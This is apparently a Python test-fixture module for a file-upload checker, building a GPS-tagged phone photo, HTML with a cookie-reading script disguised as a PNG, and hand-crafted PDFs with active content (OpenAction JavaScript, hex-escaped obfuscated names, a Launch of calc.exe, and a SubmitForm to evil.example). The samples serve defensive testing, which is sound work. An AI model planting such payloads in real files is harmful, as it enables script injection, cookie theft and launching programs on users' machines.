"""Files as applicants (and attackers) upload them, built here so the tests show exactly what is inside: a
phone photo with its GPS position, HTML dressed as a PNG, PDFs with and without active content."""

from __future__ import annotations

import io

from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.annotations import Link

HOME = ((50.0, 14.0, 40.0), (19.0, 0.0, 11.0))  # where the photo was taken (Katowice, Dąb)


def phone_photo(size=(40, 20), orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: EXIF with the maker, the orientation (6: turn 90° clockwise to view) and the
    GPS position of where it was taken, and a comment."""
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Telefon"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef], gps[ExifTags.GPS.GPSLatitude] = "N", HOME[0]
    gps[ExifTags.GPS.GPSLongitudeRef], gps[ExifTags.GPS.GPSLongitude] = "E", HOME[1]
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"ul. Debowa 5")
    return out.getvalue()


def png(size=(30, 30), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


HTML_AS_PNG = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def raw_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"") -> bytes:
    """A one-page PDF written by hand, with `catalog_extra` in its catalog and `page_extra` in its page — as an
    attacker writes one, not as a library would."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b" >>"]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# what a viewer would run or open, each in the form it was found or is commonly written
ACTIVE_PDFS = {
    "OpenAction JavaScript": raw_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "names hex-escaped (/J#61vaScript)": raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "document-level JavaScript": raw_pdf(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "page-open Launch": raw_pdf(page_extra=b"/AA << /O << /S /Launch /F (calc.exe) >> >>"),
    "embedded files": raw_pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "XFA form": raw_pdf(b"/AcroForm << /Fields [] /XFA [] >>"),
    "SubmitForm": raw_pdf(page_extra=b"/AA << /C << /S /SubmitForm /F (https://evil.example) >> >>"),
}


def plain_pdf_with_a_link() -> bytes:
    """A cost estimate as an office program exports it: a page, a link to the city's BIP, opening on page 1."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url="https://bip.katowice.eu"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
